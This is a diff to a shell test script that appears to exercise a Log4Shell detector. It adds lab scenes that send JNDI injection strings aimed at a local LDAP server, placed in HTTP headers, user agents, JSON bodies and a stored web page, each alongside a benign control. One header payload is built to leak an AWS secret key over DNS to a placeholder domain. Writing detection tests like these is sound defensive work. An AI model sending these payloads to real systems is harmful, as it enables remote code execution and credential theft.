@@ -4,6 +4,9 @@
 http_up() {
     mkdir -p "$WORK/nginx/html" "$WORK/nginx/logs"
     echo hello >"$WORK/nginx/html/index.html"
+    mkdir -p "$WORK/nginx/html/board"
+    echo '<html><p>From: ${jndi:ldap://10.99.0.1:1389/stored}</p></html>' >"$WORK/nginx/html/board/1.html"
+    echo '<html><p>From: ${author.name}, about jndi and ldap://ldap.corp.example</p></html>' >"$WORK/nginx/html/board/2.html"
     sed "s|@WORK@|$WORK|g" "$here/srv/nginx.conf" >"$WORK/nginx/nginx.conf"
     serve in 80 nginx -e "$WORK/nginx/logs/err.log" -c "$WORK/nginx/nginx.conf"
 }
@@ -79,8 +82,8 @@ talk() {
 }
 
 http_names="http-header http-header-ipv6 http-query-obfuscated http-json-escaped http-form http-chunked http-gzip
-    http-small-segments http-keepalive http-multipart http-leak http-packed http-places http-jvm
-    benign-http-packed benign-http-places benign-http-jvm benign-http-templates benign-http-talk"
+    http-small-segments http-keepalive http-multipart http-leak http-packed http-packed-answer http-proxied http-places http-jvm
+    benign-http-packed-answer benign-http-proxied benign-http-packed benign-http-places benign-http-jvm benign-http-templates benign-http-talk"
 # shellcheck disable=SC2086
 if wanted $http_names; then
     http_up
@@ -99,6 +102,10 @@ if wanted $http_names; then
     scene http-leak curl_out -H 'X-Forwarded-For: ${jndi:dns://10.99.0.1/${env:AWS_SECRET_ACCESS_KEY}.leak.example}' \
         http://10.99.0.2/
     scene http-packed packed '{"name":"${jndi:ldap://10.99.0.1:1389/packed}"}'
+    scene http-packed-answer curl_out --compressed http://10.99.0.2/board/1.html
+    scene benign-http-packed-answer curl_out --compressed http://10.99.0.2/board/2.html
+    scene http-proxied curl_out --haproxy-protocol -A '${jndi:ldap://10.99.0.1:1389/proxied}' http://10.99.0.2:81/
+    scene benign-http-proxied curl_out --haproxy-protocol -A '${agent:-none}' http://10.99.0.2:81/
     scene http-places places '${jndi:ldap://10.99.0.1:1389/place}'
     scene http-jvm jvm_post '{"user":{"tags":["a","${jndi:ldap://10.99.0.1:1389/jvm}"]}}'
     scene benign-http-packed packed '{"name":"${user.name}","more":"${a:-b} jndi"}'
